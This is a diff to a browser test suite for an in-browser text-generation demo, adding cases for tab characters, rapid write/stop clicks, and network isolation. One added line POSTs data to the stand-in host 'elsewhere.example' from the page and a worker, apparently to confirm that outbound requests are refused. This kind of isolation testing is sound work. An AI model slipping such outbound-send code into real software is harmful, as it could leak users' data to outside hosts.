@@ -108,7 +108,9 @@ const scenarios = {
     seen.slid = await write(page, { prompt: given.prompt, temperature: "0", tokens: "100" });
     seen.empty = await write(page, { prompt: "", temperature: "0", tokens: "5" });
     if (given.weights) seen.quantized = await write(page, { prompt: given.prompt, temperature: "0", tokens: "5", weights: given.weights });
-    seen.logged = page.logged;
+    seen.logged = [...page.logged];
+    const send = () => fetch("https://elsewhere.example/", { method: "POST", body: "text" }).then(() => "sent", () => "refused");
+    seen.outside = [await page.evaluate(send), await page.workers()[0].evaluate(send)];
     const again = await open(given.demo, { context: page.context() });
     seen.again = await write(again, { prompt: given.prompt, temperature: "0", tokens: "50" });
 
@@ -126,6 +128,7 @@ const scenarios = {
     }
     const characters = await open(given.characters);
     seen.lacking = await write(characters, { prompt: "a\u2603b\u2603\u00e9", temperature: "0", tokens: "5" });
+    seen.tab = await write(characters, { prompt: "a\tb", temperature: "0", tokens: "5" });
     seen.characters = await write(characters, { prompt: "\n", temperature: "0", tokens: "50" });
     await write(characters, { prompt: "\n", temperature: "1", tokens: "2000", seed: "" }, { wait: false });
     await characters.waitForFunction(() => document.querySelectorAll("#output .new").length);
@@ -142,9 +145,12 @@ const scenarios = {
   async broken() {
     const tampered = await open(given.demo);
     const file = await open(given.file);
+    const hasty = await open(given.demo);
+    await hasty.evaluate(() => ["write", "stop"].forEach((id) => document.getElementById(id).click()));
     const bare = await open(given.demo, { before: () => delete globalThis.WebAssembly });
     return {
       tampered: await write(tampered, { tokens: "5" }),
+      hasty: await read(hasty),
       file: await read(file),
       bare: await read(bare),
     };
